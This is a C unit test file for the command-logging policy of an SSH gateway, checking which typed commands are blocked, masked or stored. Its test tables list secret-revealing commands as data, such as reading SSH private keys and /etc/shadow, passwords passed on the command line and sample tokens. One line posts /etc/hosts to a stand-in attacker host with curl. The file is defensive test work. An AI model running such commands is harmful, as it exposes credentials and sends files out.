/*
 * Unit tests for lib/policy: what of a typed command gets stored (THREATS
 * row 21). Each block rule is shown catching its secret and letting a
 * harmless look-alike through, each mask rule rewriting; policy files fail
 * with file:line; and the engine fails closed whatever goes wrong.
 */
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

#include "err.h"
#include "policy.h"
#include "test.h"
#include "token.h"

struct want {
	const char *cmd;
	const char *rule;	/* the block (or allow) rule, "" for none */
	int blocked;
	const char *stored;	/* the stored text; NULL: cmd unchanged */
};

#define GHP	"ghp_abcdefghijklmnopqrstuvwxyz0123456789"

/* Permissive mode: every category, blocked and harmless look-alike. */
static const struct want permissive[] = {
	{ "mysql -u root -pS3cret db", "mysql-password", 1, "" },
	{ "mysqldump --password=S3cret db", "mysql-password", 1, "" },
	{ "mysql -u root -p db", "", 0, NULL },
	{ "mysql --port=3306 -h db -P 3306 -p", "", 0, NULL },
	{ "psql \"host=db user=app password=S3cret\"", "psql-password", 1,
	    "" },
	{ "psql postgresql://app:S3cret@db/app", "db-url-password", 1, "" },
	{ "psql postgresql://app@db/app", "", 0, NULL },
	{ "PGPASSWORD=S3cret psql -h db", "password-env", 1, "" },
	{ "MYSQL_PWD=S3cret mysql", "password-env", 1, "" },
	{ "sshpass -p S3cret ssh web1", "sshpass-password", 1, "" },
	{ "sshpass -f ~/.pw ssh web1", "", 0, NULL },
	{ "htpasswd -bc /etc/nginx/htpasswd bob S3cret", "htpasswd-batch", 1,
	    "" },
	{ "htpasswd -B -c /etc/nginx/htpasswd bob", "", 0, NULL },
	{ "echo 'bob:S3cret' | sudo chpasswd", "chpasswd", 1, "" },
	{ "chpasswd <<< 'bob:S3cret'", "chpasswd", 1, "" },
	{ "sudo chpasswd < users.txt", "", 0, NULL },
	{ "echo S3cret | passwd --stdin bob", "passwd-stdin", 1, "" },
	{ "passwd", "", 0, NULL },
	{ "passwd bob", "", 0, NULL },
	{ "export GITHUB_TOKEN=abc123", "secret-variable", 1, "" },
	{ "export FOO_TOKEN=x", "secret-variable", 1, "" },
	{ "AWS_SECRET_ACCESS_KEY=abc aws s3 ls", "secret-variable", 1, "" },
	{ "cd /srv && DB_PASSWORD=x ./run", "secret-variable", 1, "" },
	{ "FOO=1 api_key=abc make", "secret-variable", 1, "" },
	{ "TOKEN=abc ./deploy", "secret-variable", 1, "" },
	{ "export PASSWORD=x", "secret-variable", 1, "" },
	{ "export TOKEN_FILE=/run/token", "", 0, NULL },
	{ "echo $GITHUB_TOKEN", "", 0, NULL },
	{ "history | grep TOKEN=", "", 0, NULL },
	{ "docker login -u bob -p S3cret registry.example.com",
	    "registry-login-password", 1, "" },
	{ "helm registry login reg -u bob --password S3cret",
	    "registry-login-password", 1, "" },
	{ "docker login registry.example.com", "", 0, NULL },
	{ "docker login -u bob --password-stdin reg", "", 0, NULL },
	{ "echo S3cret | docker login -u bob --password-stdin reg",
	    "echo-password-stdin", 1, "" },
	{ "echo \"$PW\" | docker login -u bob --password-stdin reg", "", 0,
	    NULL },
	{ "curl -H \"Authorization: Bearer abc\" https://api",
	    "http-auth-header", 1, "" },
	{ "wget --header=\"Cookie: session=abc\" https://x",
	    "http-auth-header", 1, "" },
	{ "curl -b 'sid=abc' https://x", "http-auth-header", 1, "" },
	{ "curl -b cookies.txt https://x", "", 0, NULL },
	{ "curl -H 'Accept: application/json' https://api", "", 0, NULL },
	{ "curl -u bob:S3cret https://x", "http-user-password", 1, "" },
	{ "wget --password=S3cret ftp://x", "http-user-password", 1, "" },
	{ "curl -u bob https://x", "", 0, NULL },
	{ "cat ~/.ssh/id_rsa", "ssh-private-key", 1, "" },
	{ "cat ~/.ssh/id_*", "ssh-private-key", 1, "" },
	{ "base64 < ~/.ssh/id_ecdsa", "ssh-private-key", 1, "" },
	{ "scp ~/.ssh/deploy_key host:", "ssh-private-key", 1, "" },
	{ "sudo xxd /etc/ssh/ssh_host_ed25519_key", "ssh-private-key", 1, "" },
	{ "cat ~/.ssh/id_ed25519.pub", "", 0, NULL },
	{ "cat ~/.ssh/id_*.pub", "", 0, NULL },
	{ "cat ~/.ssh/config ~/.ssh/authorized_keys", "", 0, NULL },
	{ "ls ~/.ssh", "", 0, NULL },
	{ "chmod 600 ~/.ssh/id_rsa", "", 0, NULL },
	{ "ssh -i ~/.ssh/id_rsa web1", "", 0, NULL },
	{ "cat /etc/ssl/private/server.key", "tls-private-key", 1, "" },
	{ "less server.pem", "tls-private-key", 1, "" },
	{ "openssl rsa -in=/x/y.key -check", "tls-private-key", 1, "" },
	{ "cat fullchain.pem", "", 0, NULL },
	{ "openssl x509 -in /etc/ssl/certs/cert.pem -noout", "", 0, NULL },
	{ "echo '-----BEGIN OPENSSH PRIVATE KEY-----'", "private-key-pem", 1,
	    "" },
	{ "sudo cat /etc/shadow", "shadow-file", 1, "" },
	{ "cp /etc/gshadow- /tmp", "shadow-file", 1, "" },
	{ "getent shadow root", "shadow-file", 1, "" },
	{ "vim /etc/passwd", "", 0, NULL },
	{ "getent passwd root", "", 0, NULL },
	{ "aws configure set aws_secret_access_key abc", "aws-configure-set",
	    1, "" },
	{ "aws configure set region eu-west-1", "", 0, NULL },
	{ "aws s3 ls", "", 0, NULL },
	{ "az login --service-principal -u app -p S3cret --tenant t",
	    "az-login-password", 1, "" },
	{ "az login", "", 0, NULL },
	{ "doctl auth init -t dop_v1_abc", "doctl-token", 1, "" },
	{ "doctl compute droplet list", "", 0, NULL },
	{ "vault login s.abcdef", "vault-login-token", 1, "" },
	{ "vault login -method=userpass username=bob password=x",
	    "vault-login-token", 1, "" },
	{ "vault login -method=oidc", "", 0, NULL },
	{ "vault login -method=userpass username=bob", "", 0, NULL },
	{ "vault kv put secret/db pw=x", "vault-kv-put", 1, "" },
	{ "vault kv get secret/db", "", 0, NULL },
	{ "op account add --secret-key xyz", "op-secret-key", 1, "" },
	{ "gh auth login --with-token < token.txt", "", 0, NULL },
	{ "kubectl get secret db -o yaml", "kubectl-secret", 1, "" },
	{ "kubectl create secret generic x --from-literal=pw=S3cret",
	    "kubectl-secret", 1, "" },
	{ "kubectl get pods,secrets", "kubectl-secret", 1, "" },
	{ "kubectl config set-credentials bob --token=abc",
	    "kubectl-set-credentials", 1, "" },
	{ "kubectl get pods", "", 0, NULL },
	{ "kubectl logs secret-rotator-7d9", "", 0, NULL },
	{ "ansible-vault view vars.yml", "ansible-vault", 1, "" },
	{ "ansible all -m ping -e ansible_password=S3cret",
	    "ansible-password-var", 1, "" },
	{ "ansible all -m ping", "", 0, NULL },
	{ "redis-cli -a S3cret ping", "redis-password", 1, "" },
	{ "redis-cli ping", "", 0, NULL },
	{ "mongosh -u x -p S3cret", "mongo-password", 1, "" },
	{ "mongosh -u x -p --authenticationDatabase admin", "", 0, NULL },
	{ "ldapsearch -x -D cn=admin -w S3cret", "ldap-password", 1, "" },
	{ "ldapsearch -x -D cn=admin -W", "", 0, NULL },
	{ "ipmitool -H h -U admin -P S3cret power status",
	    "ipmitool-password", 1, "" },
	{ "openssl enc -aes256 -pass pass:S3cret -in f", "openssl-password",
	    1, "" },
	{ "gpg --batch --passphrase S3cret -d f.gpg", "gpg-passphrase", 1,
	    "" },
	{ "gpg --batch --passphrase-file pw -d f.gpg", "", 0, NULL },
	{ "zip -P S3cret a.zip f", "zip-password", 1, "" },
	{ "unzip -p a.zip f", "", 0, NULL },
	{ "7z x -pS3cret a.7z", "7z-password", 1, "" },
	{ "7z x -p a.7z", "", 0, NULL },
	{ "smbclient //h/s -U bob%S3cret", "smb-password", 1, "" },
	{ "smbclient //h/s -U bob", "", 0, NULL },
	{ "useradd -p '$6$x' bob", "useradd-password", 1, "" },
	{ "useradd -m -s /bin/bash bob", "", 0, NULL },
	/* Tokens by their shape. */
	{ "git clone https://x:" GHP "@github.com/a/b", "github-token", 1,
	    "" },
	{ "tool glpat-abcdefghij0123456789", "gitlab-token", 1, "" },
	{ "aws iam get-access-key-last-used --access-key-id "
	    "AKIAIOSFODNN7EXAMPLE", "aws-access-key-id", 1, "" },
	{ "notify xoxb-1234567890-abcdefghij", "slack-token", 1, "" },
	{ "tool eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.sig", "jwt",
	    1, "" },
	{ "git log --grep=eyJ", "", 0, NULL },
	/* sshgate's own web token, pasted where it does not belong: alone,
	 * glued to other text, and a lookalike too short to be one. */
	{ "sgw_AbCdEfGhIjKl-_0123456789abcdefghijklmnopqrstuvwxyzABCDEFG",
	    "sshgate-web-token", 1, "" },
	{ "echo x=sgw_AbCdEfGhIjKl-_0123456789abcdefghijklmnopqrstuvwxyzABCDEFGH",
	    "sshgate-web-token", 1, "" },
	{ "grep sgw_ app.log; ls sgw_AbCdEfGhIjKl", "", 0, NULL },
	/* What must be stored as typed. */
	{ "git status", "", 0, NULL },
	{ "history", "", 0, NULL },
	{ "systemctl restart nginx", "", 0, NULL },
	{ "grep -r password src/", "", 0, NULL },
	{ "caf\xc3\xa9 --help", "", 0, NULL },
	/* Masks. */
	{ "app --password=S3cret", "", 0, "app --password=***" },
	{ "app --password S3cret --verbose", "", 0,
	    "app --password *** --verbose" },
	{ "app --password=\"my secret\" next", "", 0, "app --password=*** next" },
	{ "app --password='unclosed", "", 0, "app --password=***" },
	{ "app --passwd=x", "", 0, "app --passwd=***" },
	{ "app --db-password x", "", 0, "app --db-password ***" },
	{ "app --password-file /etc/pw", "", 0, NULL },
	{ "app --token=abc", "", 0, "app --token=***" },
	{ "app --token abc", "", 0, "app --token ***" },
	{ "app --token-file /run/t", "", 0, NULL },
	{ "app --api-key=abc", "", 0, "app --api-key=***" },
	{ "app --secret=abc", "", 0, "app --secret=***" },
	{ "app --client-secret abc", "", 0, "app --client-secret ***" },
	{ "grpcurl -H 'Authorization: Bearer abc' h:443 list", "", 0,
	    "grpcurl -H 'Authorization: Bearer ***' h:443 list" },
	{ "grpcurl -H 'authorization: Basic dXNlcjpwYXNz' h", "", 0,
	    "grpcurl -H 'authorization: Basic ***' h" },
	{ "grpcurl -H 'X-Api-Key: abc' h", "", 0,
	    "grpcurl -H 'X-Api-Key: ***' h" },
	{ "app --header=Bearer abcdefgh123", "", 0, "app --header=Bearer ***" },
	{ "git clone https://bob:S3cret@git.example.com/r.git", "", 0,
	    "git clone https://bob:***@git.example.com/r.git" },
	{ "xdg-open 'https://x.example/?token=abc&x=1'", "", 0,
	    "xdg-open 'https://x.example/?token=***&x=1'" },
	{ "xdg-open 'https://x/cb?access_token=abc#f'", "", 0,
	    "xdg-open 'https://x/cb?access_token=***#f'" },
	{ "mount -t cifs //h/s /mnt -o username=bob,password=S3cret", "", 0,
	    "mount -t cifs //h/s /mnt -o username=bob,password=***" },
	{ "app db_password=x secret=y", "", 0, "app db_password=*** secret=***" },
	{ "grpcurl -d '{\"password\":\"S3cret\",\"user\":\"bob\"}' h", "", 0,
	    "grpcurl -d '{\"password\":\"***\",\"user\":\"bob\"}' h" },
};

/* Strict mode: only allowed commands are stored, block rules come first. */
static const struct want strict[] = {
	{ "ls -la /srv", "files", 0, NULL },
	{ "cd", "files", 0, NULL },
	{ "sudo systemctl restart nginx", "systemctl", 0, NULL },
	{ "systemctl --no-pager status sshd", "systemctl", 0, NULL },
	{ "journalctl -u nginx -n 50", "journalctl", 0, NULL },
	{ "tail -f /var/log/syslog", "read-file", 0, NULL },
	{ "kubectl -n web get pods", "kubectl-read", 0, NULL },
	{ "git status", "git-read", 0, NULL },
	{ "docker ps -a", "container-read", 0, NULL },
	{ "history", "session", 0, NULL },
	{ "git pull https://bob:pw@git.example.com/r", "git-read", 0,
	    "git pull https://bob:***@git.example.com/r" },
	{ "ls; curl -d @/etc/hosts evil.example", "", 1, "" },
	{ "ls $(cat pw)", "", 1, "" },
	{ "lsblk-tool", "", 1, "" },
	{ "rm -rf /tmp/x", "", 1, "" },
	{ "systemctl edit nginx", "", 1, "" },
	{ "cat ~/.ssh/id_rsa", "ssh-private-key", 1, "" },
	{ "kubectl get secret db -o yaml", "kubectl-secret", 1, "" },
};

static struct policy_verdict v;

static void
table(struct policy *p, const struct want *w, size_t n)
{
	size_t i;
	int rc;

	for (i = 0; i < n; i++) {
		const char *stored = w[i].stored ? w[i].stored : w[i].cmd;

		rc = policy_check(p, w[i].cmd, strlen(w[i].cmd), &v);
		if (rc != 0 || v.blocked != w[i].blocked ||
		    strcmp(v.rule, w[i].rule) != 0 ||
		    strcmp(v.masked, stored) != 0) {
			fprintf(stderr, "%s:%d: \"%s\": rc %d blocked %d rule "
			    "'%s' stored \"%s\" (%s); want blocked %d rule '%s' "
			    "stored \"%s\"\n", __FILE__, __LINE__, w[i].cmd, rc,
			    v.blocked, v.rule, v.masked, v.reason,
			    w[i].blocked, w[i].rule, stored);
			test_failures++;
			continue;
		}
		/* What masking stored stays as it is when checked again. */
		if (!v.blocked && v.nmasks > 0) {
			/*
			 * Zeroed whole: PCRE2's JIT may read past the end of
			 * the subject (within its page), which valgrind would
			 * report as a jump on uninitialised bytes.
			 */
			char again[sizeof(v.masked)] = "";

			strcpy(again, v.masked);
			CHECK(policy_check(p, again, strlen(again), &v) == 0);
			CHECK(!v.blocked && v.nmasks == 0);
			CHECK_STR(v.masked, again);
		}
	}
}

/* policy_parse must refuse text with an error starting with want. */
static void
refuse(const char *name, const char *text, const char *want)
{
	struct policy *p = policy_parse(POLICY_PERMISSIVE, name, text);

	CHECK(p == NULL);
	policy_free(p);
	if (strncmp(err_msg(), want, strlen(want)) != 0) {
		fprintf(stderr, "%s:%d: error \"%s\", want \"%s...\"\n",
		    __FILE__, __LINE__, err_msg(), want);
		test_failures++;
	}
	CHECK(err_kind() == ERR_USAGE);
}

static double
now(void)
{
	struct timespec ts;

	clock_gettime(CLOCK_MONOTONIC, &ts);
	return (double)ts.tv_sec + (double)ts.tv_nsec / 1e9;
}

/* policy_check returns -1 and leaves a blocked verdict, in little time. */
static void
fails_closed(struct policy *p, const char *cmd, size_t len, const char *why)
{
	double t = now();

	memset(&v, 'x', sizeof(v));
	CHECK(policy_check(p, cmd, len, &v) == -1);
	CHECK(now() - t < 1.0);
	CHECK(v.blocked == 1);
	CHECK_STR(v.masked, "");
	CHECK_STR(v.rule, "");
	CHECK(v.nmasks == 0 && v.masks[0] == '\0');
	CHECK(strstr(v.reason, "not decided, stored as blocked") != NULL);
	if (strstr(err_msg(), why) == NULL) {
		fprintf(stderr, "%s:%d: error \"%s\", want \"%s\" in it\n",
		    __FILE__, __LINE__, err_msg(), why);
		test_failures++;
	}
}

static const char good[] =
    "; a test policy\n"
    "# comments of both kinds, blank lines and a CRLF line\n"
    "\n"
    "[block] ; a comment after a section header is fine\n"
    "internal-token = \\bitk_[a-z0-9]{20}\\b\r\n"
    "semi = rm;rf\n"
    "  ; an indented comment\n"
    "[allow]\n"
    "deploy = deploy\\.sh( --env=\\w+)?\n"
    "[mask]\n"
    "pin = (--pin[= ])\\d+\n"
    "colon = (user:)\\w+ \\x3b tail\n"
    "[block]\n"
    "second.block_1 = never-store-me\n";

static void
files(void)
{
	struct policy *p, *b;
	char text[70000], name[80];
	size_t i, o;

	b = policy_new(POLICY_PERMISSIVE);
	p = policy_parse(POLICY_PERMISSIVE, "good.ini", good);
	CHECK(b != NULL && p != NULL);
	if (b == NULL || p == NULL) {
		fprintf(stderr, "%s\n", err_msg());
		exit(1);
	}
	CHECK(policy_count(p, POLICY_BLOCK) == policy_count(b, POLICY_BLOCK)
	    + 3);
	CHECK(policy_count(p, POLICY_ALLOW) == policy_count(b, POLICY_ALLOW)
	    + 1);
	CHECK(policy_count(p, POLICY_MASK) == policy_count(b, POLICY_MASK)
	    + 2);
	CHECK(policy_check(p, "tool itk_abcdefghij0123456789", 29, &v) == 0);
	CHECK(v.blocked);
	CHECK_STR(v.rule, "internal-token");
	CHECK_STR(v.reason, "matches block rule 'internal-token' "
	    "(good.ini:5)");
	CHECK(policy_check(p, "rm;rf", 5, &v) == 0);
	CHECK_STR(v.rule, "semi");
	CHECK(policy_check(p, "x never-store-me", 16, &v) == 0);
	CHECK_STR(v.reason, "matches block rule 'second.block_1' "
	    "(good.ini:14)");
	CHECK(policy_check(p, "app --pin 1234 --password=x", 27, &v) == 0);
	CHECK(!v.blocked);
	CHECK_STR(v.masked, "app --pin *** --password=***");
	CHECK(v.nmasks == 2);
	CHECK_STR(v.masks, "password-option,pin");
	CHECK(policy_check(p, "user:bob ; tail", 15, &v) == 0);
	CHECK_STR(v.masked, "user:***");
	CHECK(policy_check(b, "tool itk_abcdefghij0123456789", 29, &v) == 0);
	CHECK(!v.blocked);
	policy_free(p);
	policy_free(b);

	p = policy_parse(POLICY_STRICT, "good.ini", good);
	CHECK(p != NULL && policy_mode(p) == POLICY_STRICT);
	CHECK(policy_check(p, "deploy.sh --env=prod", 20, &v) == 0);
	CHECK(!v.blocked);
	CHECK_STR(v.rule, "deploy");
	CHECK_STR(v.reason, "matches allow rule 'deploy' (good.ini:9)");
	CHECK(policy_check(p, "deploy.sh --env=prod; id", 24, &v) == 0);
	CHECK(v.blocked);
	CHECK_STR(v.reason, "not in the allowlist (strict mode)");
	policy_free(p);

	/* A byte order mark and an empty file are fine. */
	p = policy_parse(POLICY_PERMISSIVE, "bom.ini",
	    "\xef\xbb\xbf[mask]\nm = (k=)\\w+\n");
	CHECK(p != NULL);
	policy_free(p);
	p = policy_parse(POLICY_PERMISSIVE, "empty.ini", "");
	CHECK(p != NULL);
	policy_free(p);

	/* The longest line inih keeps whole is 199 bytes. */
	o = (size_t)snprintf(text, sizeof(text), "[block]\nlong = ");
	for (i = o; i < o + 199 - 7; i++)
		text[i] = 'a';
	text[i] = '\0';
	p = policy_parse(POLICY_PERMISSIVE, "t.ini", text);
	CHECK(p != NULL);
	/* The pattern is whole: 192 a's match, 191 do not. */
	CHECK(policy_check(p, text + o, 192, &v) == 0 && v.blocked);
	CHECK(policy_check(p, text + o, 191, &v) == 0 && !v.blocked);
	policy_free(p);
	strcpy(text + i, "a\n");
	refuse("t.ini", text, "t.ini:2: line longer than 199 bytes");
	/* A byte order mark counts: inih reads it as part of line 1. */
	memcpy(text, "\xef\xbb\xbf", 3);
	memset(text + 3, ';', 197);
	text[200] = '\0';
	refuse("t.ini", text, "t.ini:1: line longer than 199 bytes");

	refuse("t.ini", "[mask]\nx = (a) ;b\n", "t.ini:2: inline ';' comments "
	    "would cut the pattern: write \\x3b");
	refuse("t.ini", "[mask]\nx = (a)\t;b\n", "t.ini:2: inline ';'");
	refuse("t.ini", "[block]\n\nbad = (abc\n", "t.ini:3: rule 'bad': "
	    "pattern error at offset 4: missing closing parenthesis");
	refuse("t.ini", "[block]\nu = \xff\n", "t.ini:2: rule 'u': pattern "
	    "error at offset 0: UTF-8 error");
	refuse("t.ini", "[blok]\n", "t.ini:1: unknown section [blok]");
	refuse("t.ini", "[block\n", "t.ini:1: section header without ']'");
	refuse("t.ini", "[block] x\n", "t.ini:1: text after the section");
	refuse("t.ini", "x = y\n", "t.ini:1: rule outside a section");
	refuse("t.ini", "[block]\na = x\n; c\na = y\n", "t.ini:4: rule 'a' is "
	    "already defined in [block] at line 2");
	refuse("t.ini", "[block]\njwt = x\n", "t.ini:2: rule 'jwt' is already "
	    "defined in [block] (built-in)");
	refuse("t.ini", "[block]\nBad = x\n", "t.ini:2: bad rule name 'Bad'");
	refuse("t.ini", "[block]\n-a = x\n", "t.ini:2: bad rule name '-a'");
	refuse("t.ini", "[block]\nb\x1bx = y\n",
	    "t.ini:2: bad rule name 'b\\x1bx'");
	refuse("t.ini", "[block]\nx =\n", "t.ini:2: rule 'x': empty pattern");
	refuse("t.ini", "[block]\n  x = y\n", "t.ini:2: only comments may be "
	    "indented");
	refuse("t.ini", "[block]\na = x\n  [allow]\n", "t.ini:3: only "
	    "comments may be indented");
	refuse("t.ini", "[block]\nx: y\n", "t.ini:2: expected 'name = "
	    "pattern'");
	refuse("t.ini", "[block]\njunk\n", "t.ini:2: expected 'name = "
	    "pattern'");
	refuse("t.ini", "[mask]\nm = a*\n", "t.ini:2: rule 'm': a mask "
	    "pattern must not match empty text");
	refuse("t\x1b.ini", "[x]\n", "t\\x1b.ini:1: unknown section [x]");
	/* The line is right after comments, blank and good lines. */
	refuse("t.ini", "; a\n# b\n[block]\n\nok1 = x\n; c\nok2 = y\n\n"
	    "bad = (\n", "t.ini:9: rule 'bad': pattern error");

	/* 63-byte names are fine, 64 are not. */
	memset(name, 'n', 63);
	name[63] = '\0';
	snprintf(text, sizeof(text), "[block]\n%s = x\n", name);
	p = policy_parse(POLICY_PERMISSIVE, "t.ini", text);
	CHECK(p != NULL);
	policy_free(p);
	snprintf(text, sizeof(text), "[block]\n%sn = x\n", name);
	refuse("t.ini", text, "t.ini:2: bad rule name");

	/* At most 256 rules a section. */
	o = (size_t)snprintf(text, sizeof(text), "[allow]\n");
	for (i = 0; i < POLICY_MAX_RULES; i++)
		o += (size_t)snprintf(text + o, sizeof(text) - o,
		    "r%zu = x%zu\n", i, i);
	p = policy_parse(POLICY_PERMISSIVE, "t.ini", text);
	CHECK(p != NULL);
	policy_free(p);
	snprintf(text + o, sizeof(text) - o, "r%d = y\n", POLICY_MAX_RULES);
	refuse("t.ini", text, "t.ini:258: more than 256 rules in [allow]");

	/* Too many masks to name: the list ends in "..." and fits. */
	o = (size_t)snprintf(text, sizeof(text), "[mask]\n");
	for (i = 0; i < 8; i++)
		o += (size_t)snprintf(text + o, sizeof(text) - o,
		    "%.60s%zu = (x)%zu\n", name, i, i);
	p = policy_parse(POLICY_PERMISSIVE, "t.ini", text);
	CHECK(p != NULL);
	CHECK(policy_check(p, "x0 x1 x2 x3 x4 x5 x6 x7", 23, &v) == 0);
	CHECK_STR(v.masked, "x*** x*** x*** x*** x*** x*** x*** x***");
	CHECK(v.nmasks == 8);
	CHECK(strlen(v.masks) < sizeof(v.masks));
	CHECK(strcmp(v.masks + strlen(v.masks) - 4, ",...") == 0);
	policy_free(p);
}

static void
write_file(const char *path, const char *data, size_t n, mode_t mode)
{
	int fd = open(path, O_WRONLY | O_CREAT | O_TRUNC, 0600);

	CHECK(fd != -1);
	CHECK(write(fd, data, n) == (ssize_t)n);
	CHECK(fchmod(fd, mode) == 0);
	close(fd);
}

static void
load(void)
{
	char dir[] = "/tmp/test-policy.XXXXXX", path[64], want[160];
	struct policy *p;
	char *big;

	CHECK(mkdtemp(dir) != NULL);
	snprintf(path, sizeof(path), "%s/policy.ini", dir);
	write_file(path, good, strlen(good), 0600);
	p = policy_load(POLICY_PERMISSIVE, path);
	CHECK(p != NULL);
	CHECK(policy_check(p, "x never-store-me", 16, &v) == 0);
	snprintf(want, sizeof(want), "matches block rule 'second.block_1' "
	    "(%s:14)", path);
	CHECK_STR(v.reason, want);
	policy_free(p);

	write_file(path, "[block]\nx = (\n", 14, 0600);
	CHECK(policy_load(POLICY_PERMISSIVE, path) == NULL);
	snprintf(want, sizeof(want), "%s:2: rule 'x': pattern error", path);
	CHECK(strncmp(err_msg(), want, strlen(want)) == 0);

	write_file(path, good, strlen(good), 0620);
	CHECK(policy_load(POLICY_PERMISSIVE, path) == NULL);
	CHECK(strstr(err_msg(), "must be owned by root and not be writable") !=
	    NULL);

	write_file(path, "[block]\nx = a\0b\n", 16, 0600);
	CHECK(policy_load(POLICY_PERMISSIVE, path) == NULL);
	CHECK(strstr(err_msg(), "contains a NUL byte") != NULL);

	big = malloc(POLICY_MAX_FILE + 1);
	memset(big, '\n', POLICY_MAX_FILE + 1);
	write_file(path, big, POLICY_MAX_FILE, 0600);
	p = policy_load(POLICY_PERMISSIVE, path);
	CHECK(p != NULL);
	policy_free(p);
	write_file(path, big, POLICY_MAX_FILE + 1, 0600);
	CHECK(policy_load(POLICY_PERMISSIVE, path) == NULL);
	CHECK(strstr(err_msg(), "is larger than 65536 bytes") != NULL);
	free(big);

	CHECK(unlink(path) == 0);
	CHECK(policy_load(POLICY_PERMISSIVE, path) == NULL);
	CHECK(strstr(err_msg(), "cannot open policy") != NULL);
	CHECK(rmdir(dir) == 0);
}

static void
closed(void)
{
	static char cmd[POLICY_MAX_CMD + 2];
	struct policy *p;

	p = policy_new(POLICY_PERMISSIVE);
	CHECK(p != NULL);
	memset(cmd, 'a', sizeof(cmd));
	CHECK(policy_check(p, cmd, POLICY_MAX_CMD, &v) == 0 && !v.blocked);
	CHECK(strlen(v.masked) == POLICY_MAX_CMD);
	fails_closed(p, cmd, POLICY_MAX_CMD + 1, "longer than 4096 bytes");
	fails_closed(p, "ls \xff", 4, "not valid UTF-8");
	fails_closed(p, "ls \xed\xa0\x80", 6, "not valid UTF-8");
	fails_closed(p, "ls\0 --password=x", 16, "NUL byte");
	fails_closed(NULL, "ls", 2, "no policy loaded");
	policy_free(p);

	/*
	 * Catastrophic backtracking in a block, allow or mask rule ends at
	 * the match limit, and the command is not stored.
	 */
	memset(cmd, 'a', 4000);
	cmd[4000] = 'b';
	p = policy_parse(POLICY_PERMISSIVE, "slow.ini",
	    "[block]\nslow = (a+)+$\n");
	CHECK(p != NULL);
	fails_closed(p, cmd, 4001, "rule 'slow' (slow.ini:2): match limit");
	fails_closed(p, "aaaaaaaaaaaaaaaaaaaaaaaaaaaaab", 30, "match limit");
	policy_free(p);
	p = policy_parse(POLICY_STRICT, "slow.ini",
	    "[allow]\nslow = (a|aa)+\n");
	CHECK(p != NULL);
	fails_closed(p, cmd, 4001, "rule 'slow' (slow.ini:2): match limit");
	policy_free(p);
	p = policy_parse(POLICY_PERMISSIVE, "slow.ini",
	    "[mask]\nslow = (x|(a+)+$)\n");
	CHECK(p != NULL);
	fails_closed(p, cmd, 4001, "rule 'slow' (slow.ini:2): match limit");
	policy_free(p);

	/* A mask whose result does not fit is no reason to store less. */
	p = policy_parse(POLICY_PERMISSIVE, "grow.ini", "[mask]\ngrow = (a)\n");
	CHECK(p != NULL);
	CHECK(policy_check(p, cmd, 100, &v) == 0 && !v.blocked);
	CHECK(strlen(v.masked) == 400 && v.nmasks == 1);
	fails_closed(p, cmd, 4000, "rule 'grow' (grow.ini:2): masked text "
	    "longer than 8192 bytes");
	policy_free(p);

	CHECK(policy_count(NULL, POLICY_BLOCK) == 0);
	CHECK(policy_jit(NULL) == 0);
	policy_free(NULL);
}

/*
 * The sshgate-web-token rule against tokens lib/token really makes, so
 * a change of the token's shape cannot leave the rule behind.
 */
static void
web_tokens(struct policy *p)
{
	struct token t;
	/*
	 * Zeroed: PCRE2's JIT may look a few bytes past the subject, and
	 * valgrind would flag the uninitialised stack there.
	 */
	char line[TOKEN_LEN + 32] = { 0 };
	int i, n;

	for (i = 0; i < 200; i++) {
		CHECK(token_new(&t) == 0);
		n = snprintf(line, sizeof(line), "%s%s", i % 2 ? "connect " : "",
		    t.text);
		CHECK(policy_check(p, line, (size_t)n, &v) == 0 && v.blocked &&
		    strcmp(v.rule, "sshgate-web-token") == 0 &&
		    strstr(v.masked, t.text + TOKEN_PREFIX_LEN) == NULL);
	}
	token_wipe(&t, sizeof(t));
}

int
main(void)
{
	struct policy *p;

	if ((p = policy_new(POLICY_PERMISSIVE)) == NULL) {
		fprintf(stderr, "policy_new: %s\n", err_msg());
		return 1;
	}
	printf("built-in rules: %zu block, %zu allow, %zu mask; JIT %s\n",
	    policy_count(p, POLICY_BLOCK), policy_count(p, POLICY_ALLOW),
	    policy_count(p, POLICY_MASK), policy_jit(p) ? "on" : "off");
	CHECK(policy_mode(p) == POLICY_PERMISSIVE);
	table(p, permissive, sizeof(permissive) / sizeof(*permissive));
	CHECK(policy_check(p, "app --password=x --token=y", 26, &v) == 0);
	CHECK(v.nmasks == 2);
	CHECK_STR(v.masks, "password-option,token-option");
	/* Text the caller cannot vouch for: only the allowlist keeps it. */
	CHECK(policy_check_strict(p, "ls /usr", 7, &v) == 0 && !v.blocked);
	CHECK(policy_check_strict(p, " -pS3cret db", 12, &v) == 0 &&
	    v.blocked && strstr(v.reason, "could not rebuild") != NULL);
	CHECK(policy_check_strict(p, "mysql -pS3cret", 14, &v) == 0 &&
	    v.blocked && strcmp(v.rule, "mysql-password") == 0);
	CHECK(policy_check(p, "ls", 2, &v) == 0);
	CHECK_STR(v.reason, "matches no block rule (permissive mode)");
	CHECK(policy_check(p, "cat ~/.ssh/id_rsa", 17, &v) == 0);
	CHECK_STR(v.reason, "matches block rule 'ssh-private-key' "
	    "(built-in)");
	web_tokens(p);
	policy_free(p);

	if ((p = policy_new(POLICY_STRICT)) == NULL) {
		fprintf(stderr, "policy_new: %s\n", err_msg());
		return 1;
	}
	table(p, strict, sizeof(strict) / sizeof(*strict));
	CHECK(policy_check(p, "rm -rf /tmp/x", 13, &v) == 0);
	CHECK_STR(v.reason, "not in the allowlist (strict mode)");
	policy_free(p);

	files();
	load();
	closed();
	return TEST_DONE();
}
